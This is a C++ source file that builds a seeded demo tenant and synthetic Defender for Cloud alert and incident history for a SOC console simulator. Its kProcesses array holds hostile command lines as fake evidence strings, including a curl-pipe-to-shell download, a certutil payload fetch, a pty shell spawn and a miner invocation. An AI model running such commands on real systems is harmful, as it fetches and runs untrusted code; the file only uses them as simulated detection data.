// Demo tenant generation. Everything random comes from one seeded Random, in a fixed
// order, so a seed always gives the same tenant and history.
#include "generator.h"

#include "engine/engine.h"

#include <QCryptographicHash>
#include <QElapsedTimer>

#include <algorithm>
#include <queue>

namespace wf::sim {

namespace {

const QStringList kAzurePlans = {
    QStringLiteral("VirtualMachines"), QStringLiteral("StorageAccounts"),
    QStringLiteral("SqlServers"), QStringLiteral("SqlServerVirtualMachines"),
    QStringLiteral("OpenSourceRelationalDatabases"), QStringLiteral("CosmosDbs"),
    QStringLiteral("Containers"), QStringLiteral("KeyVaults"), QStringLiteral("AppServices"),
    QStringLiteral("Arm"), QStringLiteral("Dns"), QStringLiteral("Api"), QStringLiteral("AI"),
    QStringLiteral("CloudPosture")};
const QStringList kAwsPlans = {QStringLiteral("VirtualMachines"), QStringLiteral("Containers"),
                               QStringLiteral("OpenSourceRelationalDatabases"),
                               QStringLiteral("CloudPosture")};
const QStringList kGcpPlans = {QStringLiteral("VirtualMachines"), QStringLiteral("Containers"),
                               QStringLiteral("CloudPosture")};

// Kill-chain order used to lay out a scenario's steps.
const QStringList kTacticOrder = {
    QStringLiteral("PreAttack"), QStringLiteral("Probing"), QStringLiteral("InitialAccess"),
    QStringLiteral("Exploitation"), QStringLiteral("Execution"), QStringLiteral("Persistence"),
    QStringLiteral("PrivilegeEscalation"), QStringLiteral("DefenseEvasion"),
    QStringLiteral("CredentialAccess"), QStringLiteral("Discovery"),
    QStringLiteral("LateralMovement"), QStringLiteral("Collection"),
    QStringLiteral("CommandAndControl"), QStringLiteral("Exfiltration"), QStringLiteral("Impact")};

int tacticRank(const CatalogEntry &e)
{
    const int r = e.tactics.isEmpty() ? -1 : int(kTacticOrder.indexOf(e.tactics.first()));
    return r < 0 ? 7 : r;
}

const char *const kAzureRegions[] = {"westeurope", "northeurope", "eastus", "westus2", "uksouth"};
const char *const kAwsRegions[] = {"us-east-1", "eu-west-1", "eu-central-1"};
const char *const kGcpRegions[] = {"us-central1", "europe-west1", "asia-east1"};
const char *const kApps[] = {"web", "api", "billing", "crm", "etl", "batch", "portal", "auth",
                             "search", "media", "reports", "ml"};
const char *const kPeople[] = {"ana.silva", "ben.okafor", "chen.wei", "dana.kowalski",
                               "emre.yilmaz", "fatima.haddad", "gustav.lind", "hana.sato",
                               "ivan.petrov", "julia.moreau", "kofi.mensah", "lena.fischer"};
const char *const kProcesses[] = {
    "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "/bin/bash -c curl -s http://198.51.100.23/x.sh | sh",
    "cmd.exe /c whoami /all",
    "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')",
    "rundll32.exe C:\\Users\\Public\\update.dll,Start",
    "xmrig --donate-level 1 -o pool.minexmr.example:4444",
    "certutil.exe -urlcache -split -f http://203.0.113.50/p.exe p.exe",
    "/tmp/.x/kdevtmpfsi"};
const char *const kFiles[] = {"update.dll", "p.exe", "x.sh", "kdevtmpfsi", "invoice.pdf.exe",
                              "eicar.com", "mimikatz.exe", "backdoor.php"};

QString publicIp(Random &rng)
{
    // Documentation ranges and a few plausible public blocks; never a real target.
    static const int firsts[] = {45, 89, 103, 146, 185, 193, 203, 198};
    const int a = firsts[rng.below(8)];
    return QStringLiteral("%1.%2.%3.%4").arg(a).arg(rng.between(1, 254)).arg(rng.between(1, 254)).arg(rng.between(1, 254));
}

struct PendingAlert
{
    Timestamp at;
    qint64 order;      // ties broken by creation order: deterministic
    int entry;
    int resource;
    int context;
    bool duplicate;    // a second workload's report of the same detection
    QString dedupKey;
};
struct Later
{
    bool operator()(const PendingAlert &a, const PendingAlert &b) const
    {
        return a.at != b.at ? a.at > b.at : a.order > b.order;
    }
};

} // namespace

struct DemoGenerator::Context
{
    QString attackerIp;
    QString account;   // UPN of the compromised or acting account
    QString url;
    int process = 0;
    int file = 0;
};

DemoGenerator::DemoGenerator(DemoOptions options)
    : m_options(options)
    , m_rng(options.seed * 0x9E3779B97F4A7C15ull + 17)
{
    if (m_options.end == Timestamp())
        m_options.end = Timestamp::fromMSecs(Timestamp::now().toMSecs() / 60000 * 60000);
}

QString DemoGenerator::secretFor(quint64 seed, const QString &login)
{
    const QByteArray h = QCryptographicHash::hash(QByteArray(QByteArray::number(seed) + ':' + login.toLower().toUtf8()),
                                                  QCryptographicHash::Sha256)
                             .toBase64(QByteArray::Base64UrlEncoding | QByteArray::OmitTrailingEquals);
    return QStringLiteral("Wf-%1!").arg(QString::fromLatin1(h.left(12)));
}

Tenant DemoGenerator::buildTenant()
{
    Random &rng = m_rng;
    Tenant t;
    t.id = rng.guid();
    t.displayName = QStringLiteral("Contoso SOC (demo)");
    t.domain = QStringLiteral("contoso-soc.onmicrosoft.com");
    const QString otherTenant = rng.guid();

    // ---- subscriptions: 10-15 across the three clouds
    const int count = int(rng.between(10, 15));
    const int aws = 3, gcp = count >= 13 ? 3 : 2;
    const int azure = count - aws - gcp;
    static const char *azureNames[] = {"Contoso Production", "Contoso Development", "Contoso Shared Services",
                                       "Contoso Data Platform", "Contoso Sandbox", "Contoso Finance",
                                       "Contoso Research", "Contoso Marketing", "Contoso Identity"};
    static const char *awsNames[] = {"aws-prod-workloads", "aws-analytics", "aws-legacy-erp"};
    static const char *gcpNames[] = {"gcp-ml-platform", "gcp-web-frontend", "gcp-data-lake"};
    for (int i = 0; i < count; ++i) {
        Subscription s;
        s.tenantId = t.id;
        QStringList plans;
        if (i < azure) {
            s.cloud = Cloud::Azure;
            s.id = rng.guid();
            s.displayName = QLatin1StringView(azureNames[i % 9]);
            plans = kAzurePlans;
        } else if (i < azure + aws) {
            s.cloud = Cloud::Aws;
            s.id = QString::number(rng.between(100000000000LL, 999999999999LL));
            s.displayName = QLatin1StringView(awsNames[(i - azure) % 3]);
            plans = kAwsPlans;
        } else {
            s.cloud = Cloud::Gcp;
            s.displayName = QLatin1StringView(gcpNames[(i - azure - aws) % 3]);
            s.id = s.displayName + u'-' + QString::number(rng.between(100000, 999999));
            plans = kGcpPlans;
        }
        // Plans: the first of each cloud has all, one Azure subscription has none,
        // the rest some.
        const bool firstOfCloud = i == 0 || i == azure || i == azure + aws;
        const bool none = i == 4 % azure;
        for (const QString &p : plans)
            s.plans.insert(p, !none && (firstOfCloud || rng.chance(0.55)));
        if (!none && !firstOfCloud)
            s.plans.insert(QStringLiteral("VirtualMachines"), true);
        t.subscriptions.append(s);
    }
    // One Azure subscription belongs to another tenant (reached through Lighthouse),
    // one has not registered the SecurityInsights resource provider.
    t.subscriptions[azure - 1].tenantId = otherTenant;
    t.subscriptions[azure - 1].displayName = QStringLiteral("Fabrikam Managed (Lighthouse)");
    t.subscriptions[2].securityInsightsRegistered = false;

    // ---- resources
    auto add = [&](const Subscription &s, ResourceKind kind, const QString &name) {
        Resource r;
        r.subscriptionId = s.id;
        r.cloud = s.cloud;
        r.kind = kind;
        r.name = name;
        if (s.cloud == Cloud::Azure) {
            r.region = QLatin1StringView(kAzureRegions[rng.below(5)]);
            static const char *types[] = {"Microsoft.Compute/virtualMachines", "Microsoft.Storage/storageAccounts",
                                          "Microsoft.Sql/servers", "Microsoft.DBforPostgreSQL/flexibleServers",
                                          "Microsoft.DocumentDB/databaseAccounts",
                                          "Microsoft.ContainerService/managedClusters", "Microsoft.KeyVault/vaults",
                                          "Microsoft.Web/sites", "Microsoft.ApiManagement/service",
                                          "Microsoft.CognitiveServices/accounts", "Microsoft.Resources/subscriptions"};
            r.type = QLatin1StringView(types[int(kind)]);
            const QString rg = QStringLiteral("rg-%1").arg(name.section(u'-', 1, 1));
            r.id = kind == ResourceKind::Subscription
                ? QStringLiteral("/subscriptions/%1").arg(s.id)
                : QStringLiteral("/subscriptions/%1/resourceGroups/%2/providers/%3/%4").arg(s.id, rg, r.type, name);
        } else if (s.cloud == Cloud::Aws) {
            r.region = QLatin1StringView(kAwsRegions[rng.below(3)]);
            switch (kind) {
            case ResourceKind::VirtualMachine:
                r.type = QStringLiteral("AWS::EC2::Instance");
                r.id = QStringLiteral("arn:aws:ec2:%1:%2:instance/i-0%3").arg(r.region, s.id, rng.hex(16));
                break;
            case ResourceKind::StorageAccount:
                r.type = QStringLiteral("AWS::S3::Bucket");
                r.id = QStringLiteral("arn:aws:s3:::%1").arg(name);
                break;
            case ResourceKind::OpenSourceDatabase:
                r.type = QStringLiteral("AWS::RDS::DBInstance");
                r.id = QStringLiteral("arn:aws:rds:%1:%2:db:%3").arg(r.region, s.id, name);
                break;
            case ResourceKind::KubernetesCluster:
                r.type = QStringLiteral("AWS::EKS::Cluster");
                r.id = QStringLiteral("arn:aws:eks:%1:%2:cluster/%3").arg(r.region, s.id, name);
                break;
            default:
                r.type = QStringLiteral("AWS::Organizations::Account");
                r.id = QStringLiteral("arn:aws:organizations::%1:account/%1").arg(s.id);
            }
        } else {
            r.region = QLatin1StringView(kGcpRegions[rng.below(3)]);
            switch (kind) {
            case ResourceKind::VirtualMachine:
                r.type = QStringLiteral("compute.googleapis.com/Instance");
                r.id = QStringLiteral("//compute.googleapis.com/projects/%1/zones/%2-a/instances/%3").arg(s.id, r.region, name);
                break;
            case ResourceKind::StorageAccount:
                r.type = QStringLiteral("storage.googleapis.com/Bucket");
                r.id = QStringLiteral("//storage.googleapis.com/projects/_/buckets/%1").arg(name);
                break;
            case ResourceKind::KubernetesCluster:
                r.type = QStringLiteral("container.googleapis.com/Cluster");
                r.id = QStringLiteral("//container.googleapis.com/projects/%1/locations/%2/clusters/%3").arg(s.id, r.region, name);
                break;
            default:
                r.type = QStringLiteral("cloudresourcemanager.googleapis.com/Project");
                r.id = QStringLiteral("//cloudresourcemanager.googleapis.com/projects/%1").arg(s.id);
            }
        }
        if (kind == ResourceKind::VirtualMachine)
            r.os = rng.chance(0.45) ? QStringLiteral("Windows") : QStringLiteral("Linux");
        t.resources.append(r);
    };
    // A bigger history is a bigger estate, not busier machines: resources grow with the
    // alert count so that alerts per resource per day (and so incident sizes) stay real.
    const qint64 scale = qMax<qint64>(1, m_options.alerts / 10'000);
    int serial = 1;
    for (const Subscription &s : std::as_const(t.subscriptions)) {
        const QString tag = s.cloud == Cloud::Azure ? QStringLiteral("az")
            : s.cloud == Cloud::Aws                 ? QStringLiteral("aws")
                                                    : QStringLiteral("gcp");
        auto name = [&](const char *prefix) {
            return QStringLiteral("%1-%2-%3%4").arg(QLatin1StringView(prefix), QLatin1StringView(kApps[rng.below(12)]),
                                                  tag).arg(serial++, scale > 1 ? 5 : 2, 10, QLatin1Char('0'));
        };
        for (qint64 i = rng.between(3, 8) * scale; i > 0; --i)
            add(s, ResourceKind::VirtualMachine, name("vm"));
        for (qint64 i = rng.between(1, 3) * scale; i > 0; --i)
            add(s, ResourceKind::StorageAccount, s.cloud == Cloud::Azure ? name("st").remove(u'-') : name("bucket"));
        for (qint64 i = rng.between(0, 2) * scale; i > 0; --i)
            add(s, ResourceKind::KubernetesCluster, name(s.cloud == Cloud::Azure ? "aks" : s.cloud == Cloud::Aws ? "eks" : "gke"));
        if (s.cloud != Cloud::Gcp && rng.chance(0.6))
            add(s, ResourceKind::OpenSourceDatabase, name(s.cloud == Cloud::Azure ? "psql" : "rds"));
        if (s.cloud == Cloud::Azure) {
            add(s, ResourceKind::SqlServer, name("sql"));
            add(s, ResourceKind::KeyVault, name("kv"));
            add(s, ResourceKind::AppService, name("app"));
            if (rng.chance(0.5))
                add(s, ResourceKind::CosmosDb, name("cosmos"));
            if (rng.chance(0.4))
                add(s, ResourceKind::ApiManagement, name("apim"));
            if (rng.chance(0.4))
                add(s, ResourceKind::AiService, name("oai"));
        }
        add(s, ResourceKind::Subscription, s.displayName);
    }

    // ---- principals: one per row of SPEC.md's permission table, and two apps
    auto user = [&](const char *login, const char *name, QStringList roles, WorkspaceAccess ws,
                    const char *subRole, const char *what) {
        Principal p;
        p.objectId = rng.guid();
        p.userPrincipalName = QLatin1StringView(login) + u'@' + t.domain;
        p.displayName = QLatin1StringView(name);
        p.roles = roles;
        p.workspace = ws;
        if (subRole) {
            for (const Subscription &s : std::as_const(t.subscriptions)) {
                if (s.tenantId == t.id)
                    p.subscriptionRoles.insert(s.id, QLatin1StringView(subRole));
            }
        }
        p.description = QLatin1StringView(what);
        t.principals.append(p);
    };
    using namespace role;
    user("admin", "Avery Admin", {QString(GlobalAdministrator)}, WorkspaceAccess::ReadWrite, "Owner",
         "Global Administrator; Owner of every subscription; workspace read/write");
    // Lighthouse delegates the customer's subscription to the managing tenant's admin.
    for (const Subscription &s : std::as_const(t.subscriptions)) {
        if (s.tenantId != t.id)
            t.principals.last().subscriptionRoles.insert(s.id, QStringLiteral("Owner"));
    }
    user("secadmin", "Sam Security-Admin", {QString(SecurityAdministrator)}, WorkspaceAccess::ReadWrite,
         "Security Admin", "Security Administrator; Security Admin on every subscription");
    user("analyst", "Alex Analyst", {QString(SecurityOperator), QString(DfcDataManage)}, WorkspaceAccess::ReadWrite,
         "Reader", "Security Operator with Defender for Cloud data (manage): triages incidents");
    user("reader", "Riley Reader", {QString(SecurityReader), QString(DfcDataRead)}, WorkspaceAccess::Read, "Reader",
         "Security Reader with Defender for Cloud data (read): read-only");
    user("cloudops", "Casey Cloud-Ops", {}, WorkspaceAccess::ReadWrite, "Contributor",
         "Contributor on every subscription, workspace read/write; no security role");
    user("tier1", "Taylor Tier-1", {QString(SecurityOperator)}, WorkspaceAccess::Read, nullptr,
         "Security Operator without Defender for Cloud data: sees no Defender for Cloud alerts");
    auto app = [&](const char *name, QStringList roles, const char *what) {
        Principal p;
        p.objectId = rng.guid();
        p.clientId = rng.guid();
        p.displayName = QLatin1StringView(name);
        p.roles = roles;
        p.description = QLatin1StringView(what);
        t.principals.append(p);
    };
    app("Watchfloor console", {QString(IncidentReadWrite), QString(AlertReadWrite), QString(ThreatHuntingRead)},
        "app with SecurityIncident/SecurityAlert ReadWrite.All and ThreatHunting.Read.All");
    app("SIEM export (read-only)", {QString(IncidentRead), QString(AlertRead)},
        "app with SecurityIncident.Read.All and SecurityAlert.Read.All");
    return t;
}

QList<DemoCredential> DemoGenerator::credentials(const Tenant &tenant, quint64 seed)
{
    QList<DemoCredential> out;
    for (const Principal &p : tenant.principals) {
        const QString login = p.isApp() ? p.clientId : p.userPrincipalName;
        out.append({login, secretFor(seed, login), p.roles.join(QStringLiteral(", ")), p.description});
    }
    return out;
}

QString DemoGenerator::systemAlertIdAt(Timestamp at)
{
    // Defender for Cloud's form: reversed .NET ticks, '_', an upper-case GUID.
    constexpr qint64 kDotNetMaxTicks = 3155378975999999999LL, kDotNetEpochTicks = 621355968000000000LL;
    return QString::number(kDotNetMaxTicks - (at.ticks() + kDotNetEpochTicks)) + u'_' + m_rng.guid().toUpper();
}

std::optional<Alert> DemoGenerator::sampleAlert(const Tenant &tenant, const QString &subscriptionId,
                                                const QString &plan, Timestamp at)
{
    const AlertCatalog &catalog = AlertCatalog::builtIn();
    for (const Resource &resource : tenant.resources) {
        if (resource.subscriptionId != subscriptionId)
            continue;
        for (int i : catalog.applicableTo(resource.kind, resource.cloud)) {
            const CatalogEntry &entry = catalog.entries().at(i);
            if (entry.plan != plan)
                continue;
            Context ctx;
            ctx.attackerIp = QStringLiteral("203.0.113.%1").arg(m_rng.between(2, 250));
            return makeAlert(entry, resource, at, ctx, tenant, systemAlertIdAt(at));
        }
    }
    return std::nullopt;
}

Alert DemoGenerator::makeAlert(const CatalogEntry &entry, const Resource &resource, Timestamp at,
                               const Context &ctx, const Tenant &tenant, const QString &systemAlertId)
{
    Random &rng = m_rng;
    Alert a;
    // Ids grow with time (cheap appends to the store's indexes); the provider id has
    // Defender for Cloud's systemAlertId form: reversed .NET ticks, '_', a GUID.
    a.id = QStringLiteral("dc%1%2").arg(quint64(at.ticks()), 16, 16, QLatin1Char('0')).arg(rng.hex(16));
    a.providerAlertId = systemAlertId;
    a.tenantId = tenant.id;
    a.status = Enum<AlertStatus>(AlertStatus::new_);
    a.severity = Enum<AlertSeverity>(entry.severity);
    a.classification.setNull();
    a.determination.setNull();
    a.serviceSource = Enum<ServiceSource>(ServiceSource::microsoftDefenderForCloud);
    a.detectionSource = Enum<DetectionSource>(entry.detectionSource);
    a.detectorId = entry.alertType;
    a.productName = QStringLiteral("Microsoft Defender for Cloud");
    a.title = entry.displayName;
    a.description = entry.description + u' ' + resource.name + u'.';
    a.recommendedActions = entry.recommendedActions;
    a.category = entry.tactics.value(0);
    a.categories = entry.tactics;
    a.mitreTechniques = entry.techniques;
    a.assignedTo.setNull();
    a.alertWebUrl = QStringLiteral("https://security.microsoft.com/alerts/%1?tid=%2").arg(a.id.value(), tenant.id);
    a.createdDateTime = at;
    a.lastUpdateDateTime = at;
    a.firstActivityDateTime = at.addSecs(-rng.between(60, 1800));
    a.lastActivityDateTime = at.addSecs(-rng.between(5, 59));
    a.resolvedDateTime.setNull();
    a.investigationState = Enum<InvestigationState>(InvestigationState::unknown);
    a.comments = QList<AlertComment>();
    a.systemTags = QStringList();
    a.extra.insert(QStringLiteral("@odata.type"), QStringLiteral("#microsoft.graph.security.alert"));
    const Subscription *sub = tenant.subscription(resource.subscriptionId);
    a.additionalData = QJsonObject{{QStringLiteral("AlertType"), entry.alertType},
                                   {QStringLiteral("CloudProvider"), cloudName(resource.cloud)},
                                   {QStringLiteral("SubscriptionId"), resource.subscriptionId},
                                   {QStringLiteral("SubscriptionName"), sub ? sub->displayName : QString()},
                                   {QStringLiteral("ResourceId"), resource.id},
                                   {QStringLiteral("DefenderPlan"), entry.plan}};

    QList<Evidence> evidence;
    auto base = [&](Evidence &e, EvidenceRole role, EvidenceVerdict verdict) {
        e.createdDateTime = at;
        e.verdict = Enum<EvidenceVerdict>(verdict);
        e.remediationStatus = Enum<EvidenceRemediationStatus>(EvidenceRemediationStatus::none);
        e.roles = QList<Enum<EvidenceRole>>{Enum<EvidenceRole>(role)};
        e.detailedRoles = QStringList();
        e.tags = QStringList();
    };
    {
        Evidence e;
        base(e, EvidenceRole::compromised, EvidenceVerdict::suspicious);
        if (resource.cloud == Cloud::Azure) {
            auto &r = e.make<AzureResourceEvidence>();
            r.resourceId = resource.id;
            r.resourceName = resource.name;
            r.resourceType = resource.type;
        } else if (resource.cloud == Cloud::Aws) {
            auto &r = e.make<AmazonResourceEvidence>();
            r.amazonAccountId = resource.subscriptionId;
            r.amazonResourceId = resource.id;
            r.resourceName = resource.name;
            r.resourceType = resource.type;
        } else {
            auto &r = e.make<GoogleCloudResourceEvidence>();
            r.fullResourceName = resource.id;
            r.resourceName = resource.name;
            r.resourceType = resource.type;
            r.projectId = resource.subscriptionId;
            r.location = resource.region;
            r.locationType = Enum<GoogleCloudLocationType>(GoogleCloudLocationType::regional);
        }
        evidence.append(e);
    }
    const bool machine = resource.kind == ResourceKind::VirtualMachine;
    for (const QString &kind : entry.evidence) {
        Evidence e;
        if (kind == QLatin1StringView("ip") && !ctx.attackerIp.isEmpty()) {
            base(e, EvidenceRole::attacker, EvidenceVerdict::malicious);
            auto &ip = e.make<IpEvidence>();
            ip.ipAddress = ctx.attackerIp;
        } else if (kind == QLatin1StringView("user") && !ctx.account.isEmpty()) {
            base(e, EvidenceRole::compromised, EvidenceVerdict::suspicious);
            auto &u = e.make<UserEvidence>();
            UserAccount ua;
            ua.userPrincipalName = ctx.account;
            ua.accountName = ctx.account.section(u'@', 0, 0);
            ua.domainName = ctx.account.section(u'@', 1);
            u.userAccount = ua;
        } else if (kind == QLatin1StringView("device") && machine) {
            base(e, EvidenceRole::compromised, EvidenceVerdict::suspicious);
            auto &d = e.make<DeviceEvidence>();
            d.hostName = resource.name;
            d.deviceDnsName = resource.name;
            d.osPlatform = resource.os.isEmpty() ? QStringLiteral("Linux") : resource.os;
            d.onboardingStatus = Enum<OnboardingStatus>(OnboardingStatus::onboarded);
            d.healthStatus = Enum<DeviceHealthStatus>(DeviceHealthStatus::active);
            d.riskScore = Enum<DeviceRiskScore>(DeviceRiskScore::medium);
            if (resource.cloud == Cloud::Azure) {
                VmMetadata vm;
                vm.cloudProvider = Enum<VmCloudProvider>(VmCloudProvider::azure);
                vm.resourceId = resource.id;
                vm.subscriptionId = resource.subscriptionId;
                vm.vmId = rng.guid();
                d.vmMetadata = vm;
            }
        } else if (kind == QLatin1StringView("process")) {
            base(e, EvidenceRole::unknown, EvidenceVerdict::suspicious);
            auto &p = e.make<ProcessEvidence>();
            p.processCommandLine = QLatin1StringView(kProcesses[ctx.process % 8]);
            p.processId = rng.between(1000, 65000);
            p.processCreationDateTime = at.addSecs(-rng.between(1, 600));
            p.detectionStatus = Enum<DetectionStatus>(DetectionStatus::detected);
        } else if (kind == QLatin1StringView("file")) {
            base(e, EvidenceRole::unknown, EvidenceVerdict::malicious);
            auto &f = e.make<FileEvidence>();
            FileDetails fd;
            fd.fileName = QLatin1StringView(kFiles[ctx.file % 8]);
            fd.sha256 = QString::fromLatin1(QCryptographicHash::hash(QByteArray(kFiles[ctx.file % 8]), QCryptographicHash::Sha256).toHex());
            fd.fileSize = 4096 + ctx.file * 7919;
            f.fileDetails = fd;
            f.detectionStatus = Enum<DetectionStatus>(DetectionStatus::detected);
        } else if (kind == QLatin1StringView("url") && !ctx.url.isEmpty()) {
            base(e, EvidenceRole::unknown, EvidenceVerdict::suspicious);
            e.make<UrlEvidence>().url = ctx.url;
        } else if (kind == QLatin1StringView("cloudApplication")) {
            base(e, EvidenceRole::contextual, EvidenceVerdict::unknown);
            auto &c = e.make<CloudApplicationEvidence>();
            c.displayName = QStringLiteral("Azure OpenAI");
            c.appId = 11599;
        } else if (kind == QLatin1StringView("mailbox") && !ctx.account.isEmpty()) {
            base(e, EvidenceRole::contextual, EvidenceVerdict::unknown);
            auto &m = e.make<MailboxEvidence>();
            m.upn = ctx.account;
            m.primaryAddress = ctx.account;
        } else {
            continue;
        }
        evidence.append(e);
    }
    a.evidence = evidence;
    return a;
}

void DemoGenerator::run(server::Engine &engine, const Tenant &tenant,
                        const std::function<void(qint64, qint64)> &progress)
{
    Random &rng = m_rng;
    const AlertCatalog &catalog = AlertCatalog::builtIn();
    const QList<Resource> &resources = tenant.resources;
    // The resources each catalog entry can fire on, and vice versa.
    QList<QList<int>> entriesFor(resources.size());
    for (int r = 0; r < resources.size(); ++r)
        entriesFor[r] = catalog.applicableTo(resources[r].kind, resources[r].cloud);
    QList<int> machines, targets;
    for (int r = 0; r < resources.size(); ++r) {
        if (entriesFor[r].isEmpty())
            continue;
        targets.append(r);
        if (resources[r].kind == ResourceKind::VirtualMachine)
            machines.append(r);
    }
    QHash<QString, QList<int>> targetsIn; // subscription -> its targets
    for (int t : std::as_const(targets))
        targetsIn[resources[t].subscriptionId].append(t);
    QList<Context> contexts;
    std::priority_queue<PendingAlert, std::vector<PendingAlert>, Later> pending;
    qint64 order = 0;
    const qint64 total = m_options.alerts;
    const Timestamp start = m_options.end.addSecs(-qint64(m_options.days) * 86400);
    qint64 episodes = 0;
    Timestamp clock = start;
    QStringList people;
    for (const char *p : kPeople)
        people << QLatin1StringView(p) + u'@' + tenant.domain;

    auto schedule = [&](Timestamp at, int entry, int resource, int context) {
        // One detection, one systemAlertId: a second workload's report carries the same.
        const QString key = systemAlertIdAt(at);
        pending.push({at, order++, entry, resource, context, false, key});
        if (rng.chance(0.02)) // the same detection reported by a second workload
            pending.push({at.addSecs(rng.between(1, 90)), order++, entry, resource, context, true, key});
    };

    QElapsedTimer timer;
    timer.start();
    engine.beginBatch();
    qint64 sinceCommit = 0;
    while (engine.stats().ingested < total) {
        // Start the next episode, then raise every pending alert that is due before it.
        // Pace episodes by what is left: alerts still to raise over the time still free,
        // at the yield per episode seen so far (plans and dedup drop some).
        const double perEpisode = episodes > 50 ? double(engine.stats().ingested) / double(episodes) : 1.6;
        const double episodesLeft = qMax(1.0, double(total - engine.stats().ingested) / qMax(0.2, perEpisode));
        const qint64 gapMs = qint64(double(m_options.end.toMSecs() - clock.toMSecs()) / episodesLeft);
        clock = clock.addMSecs(qMax<qint64>(1, gapMs * qint64(rng.between(20, 180)) / 100));
        ++episodes;
        if (clock > m_options.end)
            clock = m_options.end; // the history is full: keep adding at its end
        Context ctx;
        ctx.attackerIp = publicIp(rng);
        // Noise acts with its own service identity; attacks with a real person's account.
        ctx.account = QStringLiteral("svc-%1@%2").arg(rng.hex(6), tenant.domain);
        ctx.url = QStringLiteral("http://%1/%2").arg(ctx.attackerIp, rng.hex(6));
        ctx.process = int(rng.below(8));
        ctx.file = int(rng.below(8));
        contexts.append(ctx);
        const int c = int(contexts.size() - 1);
        if (rng.chance(0.12) && !machines.isEmpty()) {
            // A multi-stage attack: a foothold on a machine, then moves along the kill
            // chain to other resources, sharing the attacker's IP and the account.
            contexts.last().account = people[rng.below(people.size())];
            const int foothold = rng.pick(machines);
            QList<int> chain = {foothold};
            const int steps = int(rng.between(3, 7));
            // Mostly within the foothold's subscription; now and then across clouds.
            const QList<int> &near = targetsIn[resources[foothold].subscriptionId];
            for (int i = 1; i < steps; ++i)
                chain.append(rng.chance(0.4) ? foothold
                                 : rng.chance(0.85) ? near[rng.below(near.size())]
                                                    : targets[rng.below(targets.size())]);
            QList<std::pair<int, int>> stages; // (entry, resource)
            for (int r : chain)
                stages.append({entriesFor[r][rng.below(entriesFor[r].size())], r});
            std::stable_sort(stages.begin(), stages.end(), [&](auto a, auto b) {
                return tacticRank(catalog.entries()[a.first]) < tacticRank(catalog.entries()[b.first]);
            });
            Timestamp at = clock;
            for (const auto &[entry, r] : stages) {
                schedule(at, entry, r, c);
                at = at.addSecs(rng.between(120, 5400));
            }
        } else {
            const int r = targets[rng.below(targets.size())];
            schedule(clock, entriesFor[r][rng.below(entriesFor[r].size())], r, c);
        }
        while (!pending.empty() && pending.top().at <= clock && engine.stats().ingested < total) {
            const PendingAlert p = pending.top();
            pending.pop();
            const CatalogEntry &entry = catalog.entries()[p.entry];
            Alert alert = makeAlert(entry, resources[p.resource], p.at, contexts[p.context], tenant, p.dedupKey);
            if (p.duplicate)
                alert.detectionSource = Enum<DetectionSource>(DetectionSource::microsoftDefenderForEndpoint);
            engine.ingest(std::move(alert), resources[p.resource].subscriptionId, entry.plan, p.dedupKey);
            if (++sinceCommit >= 2000) {
                engine.endBatch();
                engine.beginBatch();
                sinceCommit = 0;
                if (progress)
                    progress(engine.stats().ingested, total);
            }
        }
    }
    engine.endBatch();
    m_ingestMs = timer.restart();

    // The analysts' past work: most incidents older than two days are resolved and
    // classified; some recent ones are in progress.
    QSqlQuery q(engine.db().db());
    q.setForwardOnly(true);
    q.exec(QStringLiteral("SELECT num, createdDateTime FROM incidents ORDER BY num"));
    QList<std::pair<qint64, qint64>> incidents;
    while (q.next())
        incidents.append({q.value(0).toLongLong(), q.value(1).toLongLong()});
    q.finish();
    const Timestamp recent = m_options.end.addSecs(-2 * 86400);
    QStringList analysts;
    for (const Principal &p : tenant.principals) {
        if (p.hasRole(role::SecurityOperator) || p.hasRole(role::SecurityAdministrator))
            analysts << p.userPrincipalName;
    }
    engine.beginBatch();
    sinceCommit = 0;
    for (const auto &[num, createdTicks] : std::as_const(incidents)) {
        const Timestamp created = Timestamp::fromTicks(createdTicks);
        server::IncidentChange change;
        const double roll = rng.unit();
        if (created < recent && roll < 0.75) {
            change.status = Enum<IncidentStatus>(IncidentStatus::resolved);
            const double kind = rng.unit();
            change.classification = Enum<AlertClassification>(kind < 0.3 ? AlertClassification::truePositive
                                                              : kind < 0.7 ? AlertClassification::informationalExpectedActivity
                                                                           : AlertClassification::falsePositive);
            change.determination = Enum<AlertDetermination>(kind < 0.3 ? AlertDetermination::multiStagedAttack
                                                            : kind < 0.7 ? AlertDetermination::securityTesting
                                                                         : AlertDetermination::notMalicious);
            change.assignedTo = analysts.value(int(rng.below(analysts.size())));
        } else if (roll < 0.9 && roll >= 0.75) {
            change.status = Enum<IncidentStatus>(IncidentStatus::inProgress);
            change.assignedTo = analysts.value(int(rng.below(analysts.size())));
        } else {
            continue;
        }
        Timestamp when = created.addSecs(rng.between(1800, 36 * 3600));
        when = qMin(when, m_options.end);
        engine.changeIncident(num, change, change.assignedTo.valueOr({}), when);
        if (++sinceCommit >= 2000) {
            engine.endBatch();
            engine.beginBatch();
            sinceCommit = 0;
        }
    }
    engine.endBatch();
    m_historyMs = timer.elapsed();
    if (progress)
        progress(total, total);
}

} // namespace wf::sim
